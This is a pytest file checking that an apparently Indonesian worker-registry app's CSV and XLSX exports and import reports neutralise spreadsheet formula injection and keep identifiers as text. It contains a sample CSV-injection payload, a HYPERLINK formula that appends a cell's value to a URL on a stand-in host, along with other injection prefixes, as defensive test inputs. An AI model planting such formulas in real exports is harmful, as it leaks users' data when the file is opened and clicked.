"""Every export and report goes through one writer (lindung.tabular): no live formulas, identifiers kept as
text, CSV that Excel in Indonesia opens in columns, headers and labels in the user's language. Each test
reads the file back."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from lindung.accounts.access import Access
from lindung.imports.pipeline import Options
from lindung.imports.report import build_report
from lindung.imports.services import create_job, queue_job, run_job
from lindung.tabular import csv_lines

from .conftest import DADAPKUNING, create_worker, make_nik
from .imports_support import write_csv

HOSTILE = '=HYPERLINK("http://contoh.test/?d="&A3,"Klik")'


def read_csv(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode()), "CSV starts with a byte-order mark"
    text = body.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def sheet_xml(body: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("typed", [HOSTILE, "+62 812", "-1+1", "@SUM(A1)", "\tTab", "\rCR"])
def test_cells_that_a_spreadsheet_would_run_are_neutralised_in_csv(typed):
    (row,) = list(csv.reader(io.StringIO("".join(csv_lines([[typed, 5, -7]], bom=False))), delimiter=";"))
    assert row == ["'" + typed, "5", "-7"]  # numbers stay numbers; only text is neutralised


def test_the_worker_export_in_indonesian_csv_and_xlsx(client, national_admin):
    worker = create_worker(DADAPKUNING, serial=7, name=HOSTILE, sex="F")
    client.force_login(national_admin)
    response = client.get("/workers/export.csv", HTTP_ACCEPT_LANGUAGE="id")
    rows = read_csv(b"".join(response.streaming_content))
    assert rows[0] == ["NIK", "Nama", "Tanggal lahir", "Jenis kelamin", "Kode desa", "Desa domisili", "Pekerjaan",
                       "Segmen", "Ekosistem", "Penghasilan bulanan yang dilaporkan (Rp)", "Usia"]
    record = dict(zip(rows[0], rows[1]))
    assert record["NIK"] == worker.nik and record["Nama"] == "'" + HOSTILE
    assert record["Jenis kelamin"] == "Perempuan" and record["Segmen"] != worker.segment  # labels, not codes
    assert record["Tanggal lahir"] == worker.birth_date.isoformat()

    response = client.get("/workers/export.csv?format=xlsx", HTTP_ACCEPT_LANGUAGE="id")
    body = b"".join(response.streaming_content)
    assert response["Content-Disposition"].endswith('lindung-workers.xlsx"')
    assert "<f>" not in sheet_xml(body)  # no formula anywhere
    sheet = load_workbook(io.BytesIO(body)).active
    header = [c.value for c in sheet[1]]
    nik, name = sheet.cell(2, header.index("NIK") + 1), sheet.cell(2, header.index("Nama") + 1)
    assert (nik.value, nik.data_type, nik.number_format) == (worker.nik, "s", "@")  # text, never 3.52511E+15
    assert (name.value, name.data_type) == (HOSTILE, "s")  # reads back exactly as typed, as text
    assert sheet.cell(2, header.index("Tanggal lahir") + 1).value.date() == worker.birth_date


def test_the_worker_export_in_english_for_an_english_user(client, national_admin):
    create_worker(DADAPKUNING, serial=8, name="Budi", sex="M")
    national_admin.language = "en"  # chose English in the language menu (the one language rule, issue 11)
    national_admin.save()
    client.force_login(national_admin)
    rows = read_csv(b"".join(client.get("/workers/export.csv").streaming_content))
    assert rows[0][:4] == ["NIK", "Name", "Date of birth", "Sex"] and rows[1][3] == "Male"


def test_the_import_error_report_keeps_text_as_text_and_writes_no_formula(db, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    good = make_nik("352511", dt.date(1985, 3, 12), "M", 1)
    path = write_csv(tmp_path / "daftar.csv", [["NIK", "Nama", "Tanggal Lahir", "L/P", "Kode Desa"],
                                                [good, HOSTILE, "12/03/1985", "L", DADAPKUNING],
                                                ["123", "@Rusak", "12/03/1985", "L", DADAPKUNING]])
    access = Access.console()
    job = create_job(access, path, options=Options(dry_run=True))
    queue_job(access, job)
    job = run_job(job, access=access)
    report = build_report(job)
    body = report.read_bytes()
    assert "<f>" not in sheet_xml(body)
    assert oct(report.stat().st_mode & 0o777) == "0o600"
    sheet = load_workbook(io.BytesIO(body)).active
    assert [(c.value, c.data_type) for c in sheet[2]][:2] == [(good, "s"), (HOSTILE, "s")]
    assert sheet.cell(3, 2).value == "@Rusak" and "NIK" in sheet.cell(3, 6).value
